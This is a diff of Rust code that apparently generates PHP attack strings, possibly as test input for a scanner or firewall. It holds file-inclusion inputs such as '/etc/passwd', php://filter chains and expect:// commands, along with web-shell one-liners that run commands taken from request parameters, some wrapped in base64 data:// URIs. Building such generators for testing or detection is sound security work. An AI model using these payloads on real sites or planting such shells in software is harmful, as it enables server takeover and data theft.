@@ -117,8 +117,16 @@ fn inclusion(rng: &mut Rng) -> String {
             rng.pick(&["index.php", "config", "../config.php", "/etc/passwd"])
         ),
         1 => "php://input".to_owned(),
-        2 => format!("data://text/plain;base64,{}", super::encode::base64(b"<?php system($_GET['c']); ?>")),
-        3 => format!("data:text/plain,<?php {}; ?>", rng.pick(&["phpinfo()", "system('id')", "echo 1"])),
+        2 | 3 => format!(
+            "php://filter/{}/resource={}",
+            rng.pick(&[
+                "string.rot13",
+                "convert.iconv.utf-8.utf-16be",
+                "zlib.inflate",
+                "read=string.toupper|convert.base64-encode"
+            ]),
+            word(rng)
+        ),
         4 => format!("expect://{}", rng.pick(&["id", "ls", "whoami"])),
         5 => format!(
             "{}://{host}/{}{}",
@@ -144,8 +152,16 @@ fn code(rng: &mut Rng) -> String {
     ]);
     let call =
         rng.pick(&["system", "exec", "shell_exec", "passthru", "popen", "eval", "assert", "proc_open"]);
-    match rng.below(18) {
+    match rng.below(21) {
         0 => format!("<?php {call}('{command}'); ?>"),
+        18 => format!(
+            "<?php {call}($_{}['{}']); ?>",
+            rng.pick(&["GET", "POST", "REQUEST", "COOKIE"]),
+            rng.pick(&["c", "cmd", "x", "0"])
+        ),
+        19 => format!("data://text/plain;base64,{}", super::encode::base64(b"<?php system($_GET['c']); ?>")),
+        20 => format!("data:text/plain,<?php {}; ?>", rng.pick(&["phpinfo()", "system('id')", "echo 1"])),
+
         1 => format!(
             "<?php @eval($_{}['{}']);?>",
             rng.pick(&["POST", "GET", "REQUEST"]),
